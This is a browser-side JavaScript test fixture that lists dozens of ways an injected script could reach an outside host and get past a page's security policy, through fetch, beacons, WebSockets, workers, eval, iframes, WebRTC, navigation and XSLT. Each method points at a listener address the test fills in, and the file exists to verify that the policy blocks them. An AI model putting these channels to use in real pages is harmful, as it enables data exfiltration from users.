// Ways out of a page by script: what code of ours could do if somebody had got at it before it was shipped. The policy keeps
// every other script from running at all. Runs in the page's own world; TO and UDP, which the test fills in, are the listener's
// addresses. Each way tries under its name and may fail.
(() => {
  const to = (name) => `${TO}/${name}`;
  const put = (tag, properties, where = document.body) => {
    const made = Object.assign(document.createElement(tag), properties);
    where.append(made);
    return made;
  };
  const blob = (code) => URL.createObjectURL(new Blob([code], { type: "text/javascript" }));
  const fresh = () => put("iframe", {}).contentWindow;
  const stun = (Peer) => {
    const peer = new Peer({ iceServers: [{ urls: `stun:${UDP}` }] });
    peer.createDataChannel("x");
    return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  };

  window.WAYS = {
    "fetch": (n) => fetch(to(n)),
    "fetch-no-cors": (n) => fetch(to(n), { mode: "no-cors", keepalive: true, method: "POST", body: "x" }),
    "fetch-later": (n) => fetchLater(to(n), { activateAfter: 0 }),
    "xhr": (n) => { const it = new XMLHttpRequest(); it.open("POST", to(n)); it.send("x"); },
    "beacon": (n) => navigator.sendBeacon(to(n), "x"),
    "event-source": (n) => new EventSource(to(n)),
    "web-socket": (n) => new WebSocket(to(n).replace("http", "ws")),
    "web-socket-stream": (n) => new WebSocketStream(to(n).replace("http", "ws")),
    "image": (n) => { new Image().src = to(n); },
    "audio": (n) => { new Audio(to(n)).load(); },
    "font-face": (n) => new FontFace("x", `url(${to(n)})`).load(),
    "style-property": (n) => { put("p", {}).style.backgroundImage = `url(${to(n)})`; },
    "style-constructed": (n) => {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(`body{background-image:url(${to(n)})}`);
      document.adoptedStyleSheets.push(sheet);
    },
    "style-inserted": (n) => document.styleSheets[0].insertRule(`@font-face{font-family:q;src:url(${to(n)})}`) ?? put("p", { textContent: "x" }),
    "worker": (n) => new Worker(to(n)),
    "worker-blob": (n) => new Worker(blob(`fetch("${to(n)}")`)),
    "worker-blob-import": (n) => new Worker(blob(`importScripts("${to(n)}")`)),
    "shared-worker": (n) => new SharedWorker(blob(`fetch("${to(n)}")`)),
    "service-worker": (n) => navigator.serviceWorker.register(to(n)),
    "worklet-paint": (n) => CSS.paintWorklet.addModule(to(n)),
    "worklet-audio": (n) => new AudioContext().audioWorklet.addModule(to(n)),
    "import": (n) => import(to(n)),
    "import-blob": (n) => import(blob(`fetch("${to(n)}")`)),
    "import-data": (n) => import(`data:text/javascript,import "${to(n)}"`),
    "eval": (n) => (0, eval)(`fetch("${to(n)}")`),
    "function": (n) => new Function(`fetch("${to(n)}")`)(),
    "timeout-text": (n) => setTimeout(`fetch("${to(n)}")`),
    "script-element": (n) => put("script", { src: to(n) }),
    "script-text": (n) => put("script", { text: `fetch("${to(n)}")` }),
    "inner-html": (n) => { document.body.insertAdjacentHTML("beforeend", `<img src="${to(n)}">`); },
    "parsed-document": (n) => document.body.append(new DOMParser().parseFromString(`<img src="${to(n)}">`, "text/html").body.firstChild),
    "trusted-type": (n) => put("script", { src: trustedTypes.createPolicy("own", { createScriptURL: (it) => it }).createScriptURL(to(n)) }),
    "trusted-type-ours": (n) => put("script", { src: trustedTypes.createPolicy("heddle-worker", { createScriptURL: (it) => it }).createScriptURL(to(n)) }),
    "wasm-streaming": (n) => WebAssembly.compileStreaming(fetch(to(n))),
    "iframe": (n) => put("iframe", { src: to(n) }),
    "iframe-document": (n) => { fresh().document.body.append(Object.assign(new Image(), { src: to(n) })); },
    "iframe-fetch": (n) => fresh().fetch(to(n)),
    "iframe-location": (n) => { fresh().location = to(n); },
    "iframe-blob": (n) => put("iframe", { src: URL.createObjectURL(new Blob([`<img src="${to(n)}">`], { type: "text/html" })) }),
    "object": (n) => put("object", { data: to(n) }),
    "embed": (n) => put("embed", { src: to(n) }),
    "link-prefetch": (n) => put("link", { rel: "prefetch", href: to(n) }, document.head),
    "speculation-rules": (n) => put("script", { type: "speculationrules", text: JSON.stringify({ prefetch: [{ urls: [to(n)] }] }) }),
    "payment": (n) => new PaymentRequest([{ supportedMethods: to(n) }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).canMakePayment(),
    "credentials": (n) => navigator.credentials.get({ identity: { providers: [{ configURL: to(n), clientId: "x" }] } }),
    "notification": (n) => new Notification("x", { icon: to(n) }),
    "media-session": (n) => { navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: to(n) }] }); },
    "presentation": (n) => new PresentationRequest(to(n)).start(),
    "background-fetch": async (n) => (await navigator.serviceWorker.ready).backgroundFetch.fetch("x", to(n)),
    "shared-storage": (n) => sharedStorage.worklet.addModule(to(n)),
    "ad-auction": (n) => navigator.joinAdInterestGroup({ name: "x", owner: TO, updateURL: to(n) }, 60),
    "storage-access": (n) => document.requestStorageAccess().then(() => fetch(to(n))),
    "xslt": (n) => {
      const sheet = new DOMParser().parseFromString(`<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">` +
        `<xsl:template match="/"><xsl:copy-of select="document('${to(n)}')"/></xsl:template></xsl:stylesheet>`, "text/xml");
      const processor = new XSLTProcessor();
      processor.importStylesheet(sheet);
      processor.transformToFragment(sheet, document);
    },
  };

  // These send packets, which carry no name: one after the other.
  window.CONNECTING = {
    "web-transport": () => new WebTransport(`https://${UDP}/`),
    "web-rtc": () => stun(RTCPeerConnection),
    "web-rtc-iframe": () => stun(fresh().RTCPeerConnection),
    "web-transport-iframe": () => new (fresh().WebTransport)(`https://${UDP}/`),
  };

  // Each of these may take the page away, or open another.
  window.LEAVING = {
    "location": (n) => { location = to(n); },
    "location-replace": (n) => location.replace(to(n)),
    "navigation": (n) => navigation.navigate(to(n)),
    "history": (n) => history.pushState(null, "", to(n)),
    "document-write": (n) => document.write(`<img src="${to(n)}">`),
    "open": (n) => open(to(n)),
    "link-click": (n) => put("a", { href: to(n) }).click(),
    "link-download-click": (n) => put("a", { href: to(n), download: "x" }).click(),
    "link-blank-click": (n) => put("a", { href: to(n), target: "_blank" }).click(),
    "form-submit": (n) => put("form", { action: to(n), method: "post" }).submit(),
    "meta-refresh": (n) => put("meta", { httpEquiv: "refresh", content: `0;url=${to(n)}` }, document.head),
    "iframe-top": (n) => { fresh().top.location = to(n); },
    "iframe-open": (n) => fresh().open(to(n)),
    "link-blank-detached": (n) => Object.assign(document.createElement("a"), { href: to(n), target: "_blank" }).click(),
  };
})();
